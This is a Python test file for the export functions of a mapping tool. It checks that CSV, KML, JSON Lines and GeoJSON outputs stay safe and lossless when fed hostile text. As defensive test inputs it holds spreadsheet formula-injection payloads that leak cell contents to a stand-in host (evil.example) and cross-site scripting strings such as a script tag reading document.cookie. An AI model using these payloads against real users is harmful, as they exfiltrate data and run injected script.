"""Exports are safe to open anywhere (issue "Hostile files can't hurt the analyst").

Finding 3: CSV cells that a spreadsheet would run as formulas. Finding 4: KML that one
control character makes unreadable, and descriptions that KML viewers render as HTML. And
JSON Lines / GeoJSON, which must read back to an equal frame whatever the text holds (but
for two surrogate code points in a row, which JSON reads as the one character they encode).
Every hostile value here is made by the test itself.
"""

from __future__ import annotations

import csv
import html
import io
import json
import xml.etree.ElementTree as ET
from pathlib import Path

import pandas as pd
import pytest

from sitmap.cli import main
from sitmap.events import DTYPES, synthetic_events, validate, write_events
from sitmap.mapping import export_csv, export_geojson, export_html, export_kml

K = "{http://www.opengis.net/kml/2.2}"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
TEXT_COLUMNS = [c for c, t in DTYPES.items() if t == "string"]
# The columns a user's text reaches (the others are ids or fixed vocabularies).
HOSTILE_COLUMNS = ("title", "source", "sources", "place", "passage", "toponym_text",
                   "date_text", "figures_conflict")
# Every character XML 1.0 forbids: C0 controls but TAB/LF/CR, U+FFFE, U+FFFF, lone surrogates.
NOT_XML = [chr(c) for c in range(0x20) if chr(c) not in "\t\n\r"] + [
    "\ufffe", "\uffff", "\ud800", "\udfff"]
HOSTILE_TEXT = [
    "".join(chr(c) for c in range(0x20)),  # every C0 control, NUL first
    "\ufffe\uffff \u2028\u2029 \x7f\x85",
    "lone \ud800 high, lone \udfff low",
    '</script><script>alert(1)</script> ]]> <!-- "quoted" \\ back\\slash',
    '=HYPERLINK("http://evil.example/?x="&A1,"open")',
    "\u202eRTL override, e\u0301 combining, emoji \U0001f4a5, \u200bzero-width",
    "",
]


def _csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def _starts_a_formula(cell: str) -> bool:
    """A cell a spreadsheet would run: it starts with a formula character and is no number."""
    if not cell.startswith(FORMULA_STARTS):
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return False


# ---- finding 3: CSV -------------------------------------------------------------------------


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_csv_text_cells_never_start_a_formula(start: str, tmp_path: Path) -> None:
    frame = synthetic_events(4, seed=5)
    payload = f'{start}HYPERLINK("http://evil.example/?leak="&B2,"open")'
    for column in ("title", "passage", "source", "sources", "place"):
        frame[column] = payload
    frame["lon"] = -abs(frame["lon"])  # a negative longitude stays a number
    path = tmp_path / "events.csv"
    export_csv(frame, path)
    rows = _csv_rows(path.read_bytes().decode("utf-8"))  # a CR in a cell stays a CR
    assert len(rows) == len(frame)
    for row in rows:
        assert not [c for c, cell in row.items() if _starts_a_formula(cell)], row
        shown = "'" + payload.replace("\r", "\n")  # a CR line break is written as LF
        assert row["title"] == row["passage"] == row["place"] == shown
        assert float(row["lon"]) < 0 and row["lon"].startswith("-")
    back = pd.read_csv(path, keep_default_na=False)
    assert back["lon"].dtype == "float64" and (back["lon"] < 0).all()


def test_csv_a_carriage_return_in_a_cell_does_not_split_the_row(tmp_path: Path) -> None:
    frame = synthetic_events(3, seed=5)
    frame["title"] = ["\r", "one\rtwo", "three\r\nfour"]
    path = tmp_path / "events.csv"
    export_csv(frame, path)
    rows = _csv_rows(path.read_bytes().decode("utf-8"))
    assert [r["event_id"] for r in rows] == list(frame["event_id"])
    assert [r["title"] for r in rows] == ["'\n", "one\ntwo", "three\nfour"]


def test_cli_events_and_export_csv_neutralise_an_articles_formula_title(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # A .txt file's first line is its title: here, a formula that would phone home.
    article = tmp_path / "a.txt"
    article.write_text('=HYPERLINK("http://evil.example/","open")\n'
                       "ALMATY, Jan 5, 2022 - Protesters gathered in Almaty on Wednesday as "
                       "police detained 12 in Astana.\n+- @SUM(1+1) in Kyiv on 6 January 2022\n",
                       encoding="utf-8")
    assert main(["events", str(article), "--format", "csv"]) == 0
    printed = _csv_rows(capsys.readouterr().out)
    out = tmp_path / "map.csv"
    assert main(["export", str(article), "-o", str(out)]) == 0
    exported = _csv_rows(out.read_bytes().decode("utf-8"))
    for rows in (printed, exported):
        assert rows
        assert {r["title"] for r in rows} == {"'=HYPERLINK(\"http://evil.example/\",\"open\")"}
        assert not [cell for r in rows for cell in r.values() if _starts_a_formula(cell)]


# ---- finding 4: KML -------------------------------------------------------------------------


def _texts(root: ET.Element) -> list[str]:
    return [node.text for node in root.iter() if node.text and node.text.strip()]


@pytest.mark.parametrize("char", NOT_XML, ids=[f"U+{ord(c):04X}" for c in NOT_XML])
def test_kml_is_well_formed_for_every_character_xml_forbids(char: str, tmp_path: Path) -> None:
    frame = synthetic_events(3, seed=2)
    for column in ("title", "passage", "source", "sources", "place"):
        frame[column] = f"before{char}after"
    frame.loc[0, "event_id"] = f"id{char}0"
    path = tmp_path / "events.kml"
    export_kml(frame, path, title=f"title{char}")
    root = ET.parse(path).getroot()  # raises ParseError on a non-well-formed file
    marks = list(root.iter(f"{K}Placemark"))
    assert len(marks) == len(frame)
    for mark in marks:
        assert mark.findtext(f"{K}name") == "before\ufffdafter"
        assert "before\ufffdafter" in mark.findtext(f"{K}description")
    assert root.findtext(f"{K}Document/{K}name") == "title\ufffd"


def test_kml_keeps_tab_newline_and_the_characters_xml_allows(tmp_path: Path) -> None:
    frame = synthetic_events(2, seed=2)
    frame["passage"] = "a\tb\nc \x7f\x85 \u2028 e\u0301 \U0001f4a5 \ufffd"
    path = tmp_path / "events.kml"
    export_kml(frame, path)
    for mark in ET.parse(path).getroot().iter(f"{K}Placemark"):
        assert frame.loc[0, "passage"] in mark.findtext(f"{K}description")


def test_cli_export_kml_of_an_article_with_control_characters_is_well_formed(
    tmp_path: Path,
) -> None:
    article = tmp_path / "a.txt"
    article.write_text("Report \x1b[31m\nALMATY, Jan 5, 2022 - Protesters \x01gathered in Almaty "
                       "on Wednesday\x0b as police detained 12 in Astana. \ufffe\n",
                       encoding="utf-8")
    out = tmp_path / "map.kml"
    assert main(["export", str(article), "-o", str(out)]) == 0
    root = ET.parse(out).getroot()
    descriptions = [m.findtext(f"{K}description") for m in root.iter(f"{K}Placemark")]
    assert descriptions and all("Protesters \ufffdgathered" in d for d in descriptions
                                if "Protesters" in d)


MARKUP = [
    "<b>bold</b> <img src=x onerror=alert(1)>",
    "<script>alert(document.cookie)</script>",
    "&lt;i&gt;pre-escaped&lt;/i&gt; &#60;b&#62; &amp; AT&T",
    '<a href="javascript:alert(1)">click</a> ]]>',
]


@pytest.mark.parametrize("markup", MARKUP)
def test_kml_names_descriptions_and_data_are_inert_text(markup: str, tmp_path: Path) -> None:
    frame = synthetic_events(3, seed=4)
    for column in ("title", "passage", "source", "sources", "place"):
        frame[column] = f"{column}: {markup}"
    path = tmp_path / "events.kml"
    export_kml(frame, path, title=f"title: {markup}")
    root = ET.parse(path).getroot()
    # After XML parsing no text holds markup a viewer would render...
    assert not [t for t in _texts(root) if "<" in t or ">" in t]
    # ...and a viewer that renders it as HTML shows the original characters.
    assert html.unescape(root.findtext(f"{K}Document/{K}name")) == f"title: {markup}"
    for mark in root.iter(f"{K}Placemark"):
        assert html.unescape(mark.findtext(f"{K}name")) == f"place: {markup}"
        shown = html.unescape(mark.findtext(f"{K}description"))
        for column in ("passage", "sources", "title"):
            assert f"{column}: {markup}" in shown
        values = {d.get("name"): d.findtext(f"{K}value") for d in mark.iter(f"{K}Data")}
        assert html.unescape(values["sources"]) == f"sources: {markup}"


def test_kml_escapes_only_markup_and_leaves_a_bare_ampersand_alone(tmp_path: Path) -> None:
    frame = synthetic_events(2, seed=4)
    frame["place"] = "Tom & Jerry's café, 3 > 2? no"
    path = tmp_path / "events.kml"
    export_kml(frame, path, title="Test & co")
    root = ET.parse(path).getroot()
    assert root.findtext(f"{K}Document/{K}name") == "Test & co"
    assert {m.findtext(f"{K}name") for m in root.iter(f"{K}Placemark")} == {
        "Tom & Jerry's café, 3 &gt; 2? no"}


# ---- JSON Lines and GeoJSON stay lossless ------------------------------------------------


@pytest.fixture
def hostile() -> pd.DataFrame:
    frame = synthetic_events(len(HOSTILE_TEXT) * 2, seed=6)
    for k in range(len(frame)):
        text = HOSTILE_TEXT[k % len(HOSTILE_TEXT)]
        for column in HOSTILE_COLUMNS:
            frame.loc[k, column] = f"{column}{k}:{text}"
        frame.loc[k, "event_id"] = f"{k}{text}"
    frame.loc[0, ["date_start", "date_end"]] = pd.NaT
    frame.loc[0, ["date_precision", "date_basis"]] = "unknown"
    frame.loc[1, "killed"] = 12
    return validate(frame)


def _frame(rows: list[dict[str, object]]) -> pd.DataFrame:
    return validate(pd.DataFrame(rows, columns=list(DTYPES)))


def test_jsonl_reads_back_to_an_equal_frame(hostile: pd.DataFrame, tmp_path: Path) -> None:
    path = tmp_path / "events.jsonl"
    write_events(hostile, path, format="jsonl")
    text = path.read_bytes().decode("utf-8")  # strict: the file is valid UTF-8
    back = _frame([json.loads(line) for line in text.splitlines()])
    pd.testing.assert_frame_equal(back, hostile, check_dtype=True)


def test_geojson_reads_back_to_an_equal_frame(hostile: pd.DataFrame, tmp_path: Path) -> None:
    path = tmp_path / "events.geojson"
    export_geojson(hostile, path)
    doc = json.loads(path.read_bytes().decode("utf-8"))
    back = _frame([feature["properties"] for feature in doc["features"]])
    pd.testing.assert_frame_equal(back, hostile, check_dtype=True)
    assert [f["id"] for f in doc["features"]] == list(hostile["event_id"])


def test_csv_and_html_of_a_lone_surrogate_are_written_not_a_traceback(
    hostile: pd.DataFrame, tmp_path: Path
) -> None:
    # UTF-8 cannot carry a lone surrogate; CSV and the HTML map show it as U+FFFD.
    export_csv(hostile, tmp_path / "events.csv")
    rows = _csv_rows((tmp_path / "events.csv").read_bytes().decode("utf-8"))
    assert "lone \ufffd high, lone \ufffd low" in rows[2]["passage"]
    hostile["reports"] = ""
    export_html(hostile, tmp_path / "map.html")
    page = (tmp_path / "map.html").read_bytes().decode("utf-8")
    assert "lone \ufffd high" in page
